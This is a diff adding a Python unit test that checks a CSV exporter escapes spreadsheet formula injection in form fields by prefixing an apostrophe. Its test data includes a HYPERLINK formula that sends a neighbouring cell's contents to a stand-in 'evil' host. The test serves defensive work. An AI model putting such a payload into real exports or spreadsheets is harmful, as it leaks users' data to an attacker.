@@ -0,0 +1,21 @@
+import codecs
+import csv
+import io
+from datetime import datetime
+
+from callback_export import CsvWriter
+
+
+def test_csv_escapes_formulas_in_form_fields():
+    stream = io.BytesIO()
+    writer = CsvWriter(stream)
+    writer.write_rows([
+        (1, datetime(2026, 1, 2, 3, 4, 5), '=HYPERLINK("http://evil/?"&A2,"x")', '+79001234567',
+         '@SUM(1)', '-unsure', False),
+        (2, datetime(2026, 1, 2, 3, 4, 5), 'Анна', '+79007654321', None, 'group_online', True),
+    ])
+    rows = list(csv.reader(io.StringIO(stream.getvalue()[len(codecs.BOM_UTF8):].decode('utf-8'))))
+
+    assert rows[1] == ['1', '2026-01-02 03:04:05', '\'=HYPERLINK("http://evil/?"&A2,"x")', '+79001234567',
+                       "'@SUM(1)", "'-unsure", '0']
+    assert rows[2] == ['2', '2026-01-02 03:04:05', 'Анна', '+79007654321', '', 'group_online', '1']